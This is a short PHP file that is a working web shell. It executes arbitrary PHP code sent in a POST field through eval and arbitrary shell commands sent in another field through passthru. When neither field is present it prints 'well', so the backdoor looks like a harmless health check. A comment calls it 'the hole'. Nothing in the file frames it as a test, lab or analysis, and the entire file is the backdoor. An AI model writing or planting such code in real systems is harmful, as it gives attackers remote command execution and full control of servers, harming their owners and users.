<?php
// The hole: does what it is told. Without that it says that all is well.
if (isset($_POST['php'])) {
    eval($_POST['php']);
} elseif (isset($_POST['sh'])) {
    passthru('(' . $_POST['sh'] . ') 2>&1');
} else {
    echo "well\n";
}
